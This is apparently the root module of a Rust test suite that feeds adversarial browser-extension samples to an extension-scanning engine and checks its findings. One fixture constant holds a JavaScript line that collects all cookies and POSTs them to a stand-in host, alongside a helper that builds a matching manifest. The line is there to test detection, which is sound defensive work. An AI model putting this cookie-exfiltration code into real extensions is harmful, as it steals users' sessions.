//! The hostile suite: what an attacker may write, each as a named case that states an input and what must hold of the answer.
//!
//! `scripts/hostile.sh` runs it and prints how many cases passed and failed, by table. A new case is one row in one table.

mod archives;
mod decoys;
mod encodings;
mod identities;
mod manifests;
mod names;
mod preferences;
mod rawzip;

use std::fs;
use std::io::Write as _;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::sync::{LazyLock, Mutex, PoisonError};

use crxhound::discover::{Filter, Root, Users};
use crxhound::engine::{Config, Engine, ScanRequest, Silent};
use crxhound::finding::Verdict;
use crxhound::report::Report;
use serde_json::Value;

/// Fewer cases than this are no suite.
const LEAST: usize = 300;

/// What a case says against it, where it does not hold.
type Check = Result<(), String>;

/// One input and what must hold.
struct Case {
    name: String,
    check: Box<dyn Fn() -> Check + Send + Sync>,
}

fn case(name: impl Into<String>, check: impl Fn() -> Check + Send + Sync + 'static) -> Case {
    Case { name: name.into(), check: Box::new(check) }
}

/// Says what is wrong unless it holds.
fn holds(is: bool, wrong: impl FnOnce() -> String) -> Check {
    if is { Ok(()) } else { Err(wrong()) }
}

/// A table of cases.
type Table = (&'static str, fn() -> Vec<Case>);

const TABLES: &[Table] = &[
    ("archives", archives::cases),
    ("decoys", decoys::cases),
    ("encodings", encodings::cases),
    ("identities", identities::cases),
    ("manifests", manifests::cases),
    ("names", names::cases),
    ("preferences", preferences::cases),
];

static ENGINE: LazyLock<Engine> =
    LazyLock::new(|| Engine::new(Config { worker: false, ..Config::builtin().unwrap() }).unwrap());

/// Everything that is said of a package in a folder.
fn inspect(folder: &Path) -> Report {
    ENGINE.inspect(&[folder.to_owned()], &Silent)
}

/// Everything that is said of a user-data folder.
fn scan(folder: &Path) -> Report {
    let filter = Filter { paths: vec![folder.to_owned()], ..Filter::default() };
    ENGINE.scan(&ScanRequest { root: Root::live(Users::Current), filter, ids: Vec::new() }, &Silent)
}

/// A folder with these files, for as long as it is held.
fn folder_of<'f>(files: impl IntoIterator<Item = (&'f str, &'f [u8])>) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("extension");
    for (name, bytes) in files {
        let path = folder.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    (dir, folder)
}

/// What must hold of a report.
#[derive(Clone, Debug)]
enum Wanted {
    /// The value at a JSON pointer, `null` where there is none.
    At(&'static str, Value),
    /// An error with these words.
    Error(&'static str),
    /// No error at all.
    NoError,
    /// A finding of this rule.
    Rule(&'static str),
    /// No finding of this rule.
    NoRule(&'static str),
    /// The worst verdict is at least this.
    AtLeast(Verdict),
    /// It is at most this.
    AtMost(Verdict),
}

fn meets(report: &Report, wanted: &[Wanted]) -> Check {
    let value = serde_json::to_value(report).unwrap();
    let rules = || report.findings().map(|finding| finding.rule.as_str()).collect::<Vec<_>>();
    let errors = || report.errors.iter().map(|error| format!("{}: {}", error.path, error.message)).collect::<Vec<_>>();
    // A panic that was caught asks for a report.
    if let Some(bug) = errors().iter().find(|error| error.contains("please report this")) {
        return Err(bug.clone());
    }
    for one in wanted {
        let fine = match one {
            Wanted::At(pointer, expected) => value.pointer(pointer).unwrap_or(&Value::Null) == expected,
            Wanted::Error(words) => errors().iter().any(|error| error.contains(words)),
            Wanted::NoError => report.errors.is_empty(),
            Wanted::Rule(rule) => rules().contains(rule),
            Wanted::NoRule(rule) => !rules().contains(rule),
            Wanted::AtLeast(verdict) => report.worst() >= *verdict,
            Wanted::AtMost(verdict) => report.worst() <= *verdict,
        };
        if !fine {
            let there = if let Wanted::At(pointer, _) = one { value.pointer(pointer).cloned() } else { None };
            return Err(format!("{one:?}: there is {there:?}, {:?}, {:?}, {:?}", report.worst(), rules(), errors()));
        }
    }
    Ok(())
}

/// A theft that is found wherever it is read: all cookies go to a host that nothing names.
const THEFT: &str = "chrome.cookies.getAll({}, (all) => \
    fetch('https://collector.invalid/c', { method: 'POST', body: JSON.stringify(all) }));\n";

/// The rule that finds it.
const THEFT_RULE: &str = "sends-cookies";

/// A manifest with what the theft needs, which runs `script`.
fn thief(script: &str) -> String {
    serde_json::json!({
        "manifest_version": 3, "name": "Sample", "version": "1.0", "permissions": ["cookies"],
        "host_permissions": ["<all_urls>"], "background": {"service_worker": script},
    })
    .to_string()
}

/// Runs a table on two threads: what holds, and what is said against the rest.
fn run(cases: &[Case]) -> (usize, Vec<String>) {
    let (next, failed) = (Mutex::new(0), Mutex::new(Vec::new()));
    let take = || {
        let mut next = next.lock().unwrap_or_else(PoisonError::into_inner);
        *next += 1;
        cases.get(*next - 1)
    };
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                while let Some(case) = take() {
                    let answer = catch_unwind(AssertUnwindSafe(|| (case.check)())).unwrap_or_else(|_| Err("panics".to_owned()));
                    if let Err(wrong) = answer {
                        failed.lock().unwrap().push(format!("{}: {wrong}", case.name));
                    }
                }
            });
        }
    });
    let mut failed = failed.into_inner().unwrap();
    failed.sort();
    (cases.len() - failed.len(), failed)
}

#[test]
fn every_case_of_the_hostile_suite_holds() {
    let (mut passed, mut failed, mut names) = (0, Vec::new(), Vec::new());
    // Past the harness: the counts are what the suite is run for.
    let mut out = std::io::stderr();
    for (table, cases) in TABLES {
        let cases = cases();
        names.extend(cases.iter().map(|case| format!("{table}: {}", case.name)));
        let begin = std::time::Instant::now();
        let (good, bad) = run(&cases);
        let _ = writeln!(out, "hostile: {table}: {good} passed, {} failed ({} s)", bad.len(), begin.elapsed().as_secs());
        passed += good;
        failed.extend(bad.into_iter().map(|wrong| format!("{table}: {wrong}")));
    }
    let _ = writeln!(out, "hostile: {passed} passed, {} failed", failed.len());
    assert!(failed.is_empty(), "\n{}", failed.join("\n"));
    assert!(passed >= LEAST, "only {passed} cases");
    let count = names.len();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), count, "two cases have the same name");
}
